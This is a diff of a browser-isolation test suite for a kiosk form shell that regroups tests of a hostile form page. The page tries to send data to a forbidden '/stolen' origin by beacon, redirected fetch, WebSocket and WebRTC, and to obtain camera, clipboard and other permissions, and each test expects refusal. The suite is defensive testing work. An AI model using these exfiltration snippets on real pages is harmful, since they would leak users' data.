@@ -5,6 +5,7 @@ import { describe, expect, it } from 'vitest'
 import type { ShellFixture } from './shell-fixture.ts'
 import { ownPage } from '../../src/main/shell/driver.ts'
 import { connectToFrame, isPage, targetsAt } from './devtools.ts'
+import { sharedForm } from './hostile/shared-form.ts'
 import { formBench } from './open-form.ts'
 import { eventually } from './subject.ts'
 
@@ -72,56 +73,6 @@ export function describeFormIsolation(fixture: ShellFixture): void {
       expect(fixture.forbidden.hits).toEqual([])
     })
 
-    it.each([
-      ['a beacon', `navigator.sendBeacon(to)`],
-      [
-        'a redirected fetch',
-        `fetch('/redirect?to=' + encodeURIComponent(to), { mode: 'no-cors' }).catch(() => 0)`,
-      ],
-    ])('reaches no other origin by %s', async (_name, code) => {
-      const { page } = await bench.open('/form')
-      await page.evaluate(`(async (to) => { await ${code} })(${JSON.stringify(bad())})`)
-      await bench.expectRefused('request', fixture.forbidden.origin)
-      expect(fixture.forbidden.hits).toEqual([])
-    })
-
-    it('reaches no other origin by a socket', async () => {
-      const { page } = await bench.open('/form')
-      const socket = (origin: string) =>
-        page.evaluate(`new Promise((resolve) => {
-          const socket = new WebSocket(${JSON.stringify(origin.replace('http', 'ws'))})
-          socket.onopen = socket.onerror = (event) => resolve(event.type)
-        })`)
-      await socket(fixture.forbidden.origin)
-      expect(fixture.forbidden.hits).toEqual([])
-      await socket(fixture.own.origin)
-      expect(fixture.own.hits).toContain('socket /')
-    })
-
-    it('sends no packet past the proxy by WebRTC', async () => {
-      const received: string[] = []
-      const udp = createSocket('udp4').on('message', () => received.push('packet'))
-      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
-      const { port }: AddressInfo = udp.address()
-      const { page } = await bench.open('/form')
-      const candidates = await page.evaluate(`(async () => {
-        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
-        const candidates = []
-        peer.addEventListener('icecandidate', ({ candidate }) => {
-          if (candidate?.candidate) candidates.push(candidate.candidate)
-        })
-        peer.createDataChannel('x')
-        await peer.setLocalDescription()
-        while (peer.iceGatheringState !== 'complete')
-          await new Promise((resolve) => { peer.onicegatheringstatechange = resolve })
-        return candidates
-      })()`)
-      // Not even an address to send from is gathered.
-      expect(candidates).toEqual([])
-      expect(received).toEqual([])
-      await new Promise<void>((resolve) => udp.close(() => resolve()))
-    })
-
     it('reaches the origins that the clinic lists', async () => {
       const { page } = await bench.open('/form')
       await page.evaluate(`fetch('${fixture.listed.origin}/framed', { mode: 'no-cors' })`)
@@ -142,35 +93,6 @@ export function describeFormIsolation(fixture: ShellFixture): void {
       // Where both windows are of one process, the kiosk's own page is among them.
       expect(targets.filter(({ url }) => !ownPage.test(url))).toHaveLength(1)
       expect(fixture.own.hits).not.toContain('/framed')
-    })
-
-    it('gets no permission', async () => {
-      const { page } = await bench.open('/form')
-      const asked = await page.evaluate(`(async () => {
-        const outcome = (promise) => promise.then(() => 'granted', (error) => error.name ?? 'denied')
-        const state = async (name) => (await navigator.permissions.query({ name })).state
-        return {
-          camera: await state('camera'),
-          microphone: await state('microphone'),
-          screen: await outcome(navigator.mediaDevices.getDisplayMedia()),
-          location: await new Promise((resolve) => navigator.geolocation.getCurrentPosition(
-            () => resolve('granted'), (error) => resolve('refused ' + error.code))),
-          notifications: await Notification.requestPermission(),
-          clipboard: await outcome(navigator.clipboard.readText()),
-          fullScreen: await outcome(document.documentElement.requestFullscreen()),
-          midi: await outcome(navigator.requestMIDIAccess()),
-        }
-      })()`)
-      expect(asked).toEqual({
-        camera: 'denied',
-        microphone: 'denied',
-        screen: 'NotAllowedError',
-        location: 'refused 1',
-        notifications: 'denied',
-        clipboard: 'NotAllowedError',
-        fullScreen: 'TypeError',
-        midi: 'SecurityError',
-      })
     })
 
     it('shows no dialog of the browser, however often it asks', async () => {
@@ -209,10 +131,93 @@ export function describeFormIsolation(fixture: ShellFixture): void {
       expect(await page.locator('body').textContent()).toBe('no')
       expect(await page.evaluate(`fetch('/secret').then(({ status }) => status)`)).toBe(401)
     })
+  })
+
+  describe('a hostile form page that reaches out from where it is', () => {
+    const form = sharedForm(fixture)
+    const bad = () => `${fixture.forbidden.origin}/stolen`
 
     it('has no history to go back to', async () => {
-      const { page } = await bench.open('/form')
-      expect(await page.evaluate('history.length')).toBe(1)
+      expect(await form.page.evaluate('history.length')).toBe(1)
+    })
+
+    it.each([
+      ['a beacon', `navigator.sendBeacon(to)`],
+      [
+        'a redirected fetch',
+        `fetch('/redirect?to=' + encodeURIComponent(to), { mode: 'no-cors' }).catch(() => 0)`,
+      ],
+    ])('reaches no other origin by %s', async (_name, code) => {
+      const { page } = form
+      await page.evaluate(`(async (to) => { await ${code} })(${JSON.stringify(bad())})`)
+      await form.expectRefused('request', fixture.forbidden.origin)
+      expect(fixture.forbidden.hits).toEqual([])
+    })
+
+    it('reaches no other origin by a socket', async () => {
+      const { page } = form
+      const socket = (origin: string) =>
+        page.evaluate(`new Promise((resolve) => {
+          const socket = new WebSocket(${JSON.stringify(origin.replace('http', 'ws'))})
+          socket.onopen = socket.onerror = (event) => resolve(event.type)
+        })`)
+      await socket(fixture.forbidden.origin)
+      expect(fixture.forbidden.hits).toEqual([])
+      await socket(fixture.own.origin)
+      expect(fixture.own.hits).toContain('socket /')
+    })
+
+    it('sends no packet past the proxy by WebRTC', async () => {
+      const received: string[] = []
+      const udp = createSocket('udp4').on('message', () => received.push('packet'))
+      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
+      const { port }: AddressInfo = udp.address()
+      const { page } = form
+      const candidates = await page.evaluate(`(async () => {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
+        const candidates = []
+        peer.addEventListener('icecandidate', ({ candidate }) => {
+          if (candidate?.candidate) candidates.push(candidate.candidate)
+        })
+        peer.createDataChannel('x')
+        await peer.setLocalDescription()
+        while (peer.iceGatheringState !== 'complete')
+          await new Promise((resolve) => { peer.onicegatheringstatechange = resolve })
+        return candidates
+      })()`)
+      // Not even an address to send from is gathered.
+      expect(candidates).toEqual([])
+      expect(received).toEqual([])
+      await new Promise<void>((resolve) => udp.close(() => resolve()))
+    })
+
+    it('gets no permission', async () => {
+      const { page } = form
+      const asked = await page.evaluate(`(async () => {
+        const outcome = (promise) => promise.then(() => 'granted', (error) => error.name ?? 'denied')
+        const state = async (name) => (await navigator.permissions.query({ name })).state
+        return {
+          camera: await state('camera'),
+          microphone: await state('microphone'),
+          screen: await outcome(navigator.mediaDevices.getDisplayMedia()),
+          location: await new Promise((resolve) => navigator.geolocation.getCurrentPosition(
+            () => resolve('granted'), (error) => resolve('refused ' + error.code))),
+          notifications: await Notification.requestPermission(),
+          clipboard: await outcome(navigator.clipboard.readText()),
+          fullScreen: await outcome(document.documentElement.requestFullscreen()),
+          midi: await outcome(navigator.requestMIDIAccess()),
+        }
+      })()`)
+      expect(asked).toEqual({
+        camera: 'denied',
+        microphone: 'denied',
+        screen: 'NotAllowedError',
+        location: 'refused 1',
+        notifications: 'denied',
+        clipboard: 'NotAllowedError',
+        fullScreen: 'TypeError',
+        midi: 'SecurityError',
+      })
     })
   })
 }
